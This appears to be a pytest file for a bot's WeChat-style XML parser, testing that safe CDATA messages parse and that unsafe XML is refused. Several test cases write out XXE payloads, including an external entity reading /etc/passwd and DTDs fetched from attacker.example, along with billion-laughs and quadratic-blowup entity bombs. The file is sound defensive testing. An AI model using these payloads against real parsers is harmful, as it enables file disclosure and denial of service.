from __future__ import annotations

import time

import pytest
from defusedxml import DefusedXmlException
from wx_fakes import BILLION_LAUGHS

from bot.channels.wx_xml import UnsafeXml, parse_flat_xml


def test_reads_cdata_and_plain_fields_of_a_tencent_message():
    fields = parse_flat_xml(
        "<xml><ToUserName><![CDATA[ww1]]></ToUserName><CreateTime>1409659813</CreateTime>"
        "<Content><![CDATA[王秀英 <要取> 50万 & 买房]]></Content></xml>".encode()
    )
    assert fields == {"ToUserName": "ww1", "CreateTime": "1409659813", "Content": "王秀英 <要取> 50万 & 买房"}


def test_accepts_an_xml_declaration():
    assert parse_flat_xml(b'<?xml version="1.0" encoding="utf-8"?>\n<xml><A>1</A></xml>') == {"A": "1"}


def test_user_text_that_looks_like_a_doctype_inside_cdata_is_just_text():
    fields = parse_flat_xml(b"<xml><Content><![CDATA[<!DOCTYPE x>]]></Content></xml>")
    assert fields["Content"] == "<!DOCTYPE x>"


def test_entity_bomb_is_refused_before_parsing():
    started = time.perf_counter()
    with pytest.raises(UnsafeXml):
        parse_flat_xml(BILLION_LAUGHS)
    assert time.perf_counter() - started < 0.1


@pytest.mark.parametrize(
    "doc",
    [
        b'<!DOCTYPE xml [<!ENTITY x SYSTEM "file:///etc/passwd">]><xml><A>&x;</A></xml>',
        b"<!doctype xml><xml/>",
        b'<xml><A>1</A></xml><!ENTITY y "z">',
        b"<xml><!-- c --><A>1</A></xml>",
        b"<![CDATA[x]]><!DOCTYPE xml><xml/>",
    ],
    ids=["external-entity", "lowercase-doctype", "trailing-entity", "comment", "doctype-after-cdata"],
)
def test_markup_declarations_are_refused(doc):
    with pytest.raises(UnsafeXml):
        parse_flat_xml(doc)


def test_utf16_document_is_refused_rather_than_reinterpreted():
    doc = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a><xml/>'.encode("utf-16")
    with pytest.raises(UnsafeXml):
        parse_flat_xml(doc)


@pytest.mark.parametrize(
    "doc",
    [b"", b"<xml><A>1</A>", b"<xml><A>1</B></xml>", b"not xml", b"<xml><A>1</A></xml><xml/>", b"\xff\xfe<xml/>"],
    ids=["empty", "truncated", "mismatched", "text", "two-roots", "not-utf8"],
)
def test_malformed_documents_are_refused(doc):
    with pytest.raises(UnsafeXml):
        parse_flat_xml(doc)


def test_root_must_be_xml():
    with pytest.raises(UnsafeXml):
        parse_flat_xml(b"<html><A>1</A></html>")


def test_oversized_document_is_refused():
    with pytest.raises(UnsafeXml):
        parse_flat_xml(b"<xml><A>" + b"a" * 2000 + b"</A></xml>", max_bytes=1024)


@pytest.mark.parametrize(
    "doc",
    [
        BILLION_LAUGHS,
        b'<!DOCTYPE xml [<!ENTITY x SYSTEM "file:///etc/passwd">]><xml><A>&x;</A></xml>',
        b'<!DOCTYPE xml SYSTEM "http://attacker.example/evil.dtd"><xml><A>1</A></xml>',
        b'<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><xml/>',
        b'<!DOCTYPE xml [<!ENTITY a "' + b"x" * 1000 + b'">]><xml><A>&a;&a;&a;&a;</A></xml>',
    ],
    ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity", "quadratic-blowup"],
)
def test_doctypes_are_refused_by_defusedxml_itself(doc):
    with pytest.raises(UnsafeXml) as refused:
        parse_flat_xml(doc)
    assert isinstance(refused.value.__cause__, DefusedXmlException)


def test_an_entity_reference_without_a_dtd_is_malformed():
    with pytest.raises(UnsafeXml):
        parse_flat_xml(b"<xml><A>&x;</A></xml>")


@pytest.mark.parametrize(
    "doc",
    [b"<!-- c --><xml/>", b"<xml/><!-- c -->", b"<xml><?php echo 1 ?><A>1</A></xml>"],
    ids=["comment-before-root", "comment-after-root", "processing-instruction"],
)
def test_comments_and_processing_instructions_are_refused(doc):
    with pytest.raises(UnsafeXml):
        parse_flat_xml(doc)


def test_character_references_and_a_utf8_bom_are_fine():
    assert parse_flat_xml(b"\xef\xbb\xbf<xml><A>&amp;&#20320;</A></xml>") == {"A": "&\u4f60"}


def test_a_document_at_the_size_limit_is_accepted():
    filler = b"a" * (1024 - len(b"<xml><A></A></xml>"))
    doc = b"<xml><A>" + filler + b"</A></xml>"
    assert len(doc) == 1024
    assert parse_flat_xml(doc, max_bytes=1024) == {"A": filler.decode()}
